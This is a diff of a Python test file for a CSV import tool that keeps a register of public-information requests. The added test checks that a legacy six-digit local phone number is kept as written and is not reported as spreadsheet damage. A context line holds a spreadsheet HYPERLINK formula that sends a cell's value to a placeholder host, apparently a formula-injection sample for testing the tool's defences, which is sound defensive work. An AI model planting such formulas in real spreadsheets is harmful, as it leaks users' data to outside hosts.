@@ -589,6 +589,16 @@ def test_nama_yang_berupa_rumus_ditolak_seperti_di_meja_layanan(run, ws, tmp_pat
     assert "baris 3, kolom Nama: memuat karakter tak terlihat" in r.stderr
 
 
+def test_nomor_lokal_pendek_dari_buku_lama_bukan_kerusakan_bagi_periksa(run, ws, tmp_path):
+    # a legacy book's 6-digit local number is kept as written; periksa read every number
+    # without 0 or + as Excel's damage (only an edited cell, or a mobile 8…, is)
+    src = write_csv(tmp_path / "lokal.csv", [[*HEAD, "Nomor Kontak"],
+                    ["001/PPID/5271/I/2026", "5/1/2026", "Ani", "Data", "631234"]])  # fmt: skip
+    run.ok("impor", str(src), "--register", "permohonan")
+    assert register_rows(ws)[0]["telepon"] == "631234"
+    assert run.ok("periksa").stdout == ""
+
+
 LINK = '=HYPERLINK("http://contoh.invalid/?"&D3,"lihat")'  # (text in the source)
 
 
